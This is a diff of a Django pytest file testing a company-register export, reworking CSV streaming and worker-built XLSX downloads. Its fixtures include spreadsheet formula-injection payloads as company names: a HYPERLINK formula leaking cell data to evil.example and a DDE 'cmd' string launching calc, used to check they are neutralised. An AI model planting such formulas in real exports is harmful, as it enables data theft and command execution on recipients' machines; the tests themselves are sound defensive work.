@@ -5,9 +5,12 @@ import io
 from decimal import Decimal
 
 import pytest
+from django.test import TestCase
 from django.urls import reverse
+from django_scopes import scope
 from openpyxl import load_workbook
 
+from rse_platform.files.models import GeneratedDocument
 from rse_platform.tenants.roles import Role
 from tests.factories import CompanyFactory
 
@@ -17,7 +20,18 @@ PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
 
 
 def _export(client, tenant, fmt):
-    return client.get(reverse("company_export", kwargs={"tenant_slug": tenant.slug, "fmt": fmt}))
+    """The CSV's bytes (streamed), or the XLSX's once the worker has built it."""
+    kwargs = {"tenant_slug": tenant.slug}
+    if fmt == "csv":
+        response = client.get(reverse("company_export", kwargs={**kwargs, "fmt": fmt}))
+        assert response.streaming
+        return response, b"".join(response.streaming_content)
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        response = client.post(reverse("company_export_xlsx", kwargs=kwargs))
+    with scope(tenant=tenant):
+        document = GeneratedDocument.objects.get(kind="companies.register_xlsx")
+    download = client.get(reverse("document_download", kwargs={**kwargs, "pk": document.pk}))
+    return response, b"".join(download.streaming_content)
 
 
 @pytest.fixture
@@ -30,9 +44,9 @@ def manager(client, tenant, make_person):
 def test_it_neutralises_a_formula_in_the_csv(manager, tenant, prefix):
     name = f'{prefix}HYPERLINK("https://evil.example/?leak="&A2;"Cliquez")'
     CompanyFactory(tenant=tenant, name=name, headcount=12, annual_revenue=Decimal("1500000.50"))
-    response = _export(manager, tenant, "csv")
+    response, content = _export(manager, tenant, "csv")
     assert response["Content-Disposition"].startswith("attachment;")
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
     row = dict(zip(rows[0], rows[1], strict=True))
     assert row["raison_sociale"] == f"'{name}"
     assert (row["effectif"], row["chiffre_affaires"]) == ("12", "1500000,50")
@@ -42,7 +56,7 @@ def test_it_neutralises_a_formula_in_the_csv(manager, tenant, prefix):
 def test_it_neutralises_a_formula_in_the_xlsx(manager, tenant, prefix):
     name = f"{prefix}cmd|' /C calc'!A0"
     CompanyFactory(tenant=tenant, name=name, headcount=12, annual_revenue=Decimal("1500000.50"))
-    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx").content)).active
+    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx")[1])).active
     header = [cell.value for cell in sheet[1]]
     cells = dict(zip(header, sheet[2], strict=True))
     # XML reads a carriage return back as a line feed: the apostrophe is what matters.
@@ -55,5 +69,37 @@ def test_it_neutralises_a_formula_in_the_xlsx(manager, tenant, prefix):
 
 def test_ordinary_names_are_left_alone(manager, tenant):
     CompanyFactory(tenant=tenant, name="L'Atelier - Bois & Co")
-    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx").content)).active
+    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx")[1])).active
     assert sheet.cell(row=2, column=1).value == "L'Atelier - Bois & Co"
+
+
+def test_it_streams_a_large_register_in_chunks(manager, tenant):
+    CompanyFactory.create_batch(1200, tenant=tenant)
+    response = manager.get(
+        reverse("company_export", kwargs={"tenant_slug": tenant.slug, "fmt": "csv"})
+    )
+    chunks = list(response.streaming_content)
+    assert len(chunks) >= 3  # 500 rows a chunk
+    assert b"".join(chunks).decode("utf-8-sig").count("\n") == 1201
+
+
+def test_the_xlsx_is_built_on_the_worker_and_the_register_follows_it(manager, tenant):
+    CompanyFactory(tenant=tenant, name="Chez Nous")
+    response, content = _export(manager, tenant, "xlsx")
+    assert response.status_code == 302 and response.url.endswith("#export")
+    with scope(tenant=tenant):
+        document = GeneratedDocument.objects.get()
+    assert document.status == GeneratedDocument.Status.READY
+    assert document.filename.startswith("entreprises-") and document.filename.endswith(".xlsx")
+    page = manager.get(response.url).content.decode()
+    assert (
+        reverse("document_download", kwargs={"tenant_slug": tenant.slug, "pk": document.pk}) in page
+    )
+    assert load_workbook(io.BytesIO(content)).active.cell(row=2, column=1).value == "Chez Nous"
+
+
+def test_a_get_never_builds_the_xlsx_in_the_request(manager, tenant):
+    url = reverse("company_export_xlsx", kwargs={"tenant_slug": tenant.slug})
+    assert manager.get(url).status_code == 405
+    with scope(tenant=tenant):
+        assert not GeneratedDocument.objects.exists()
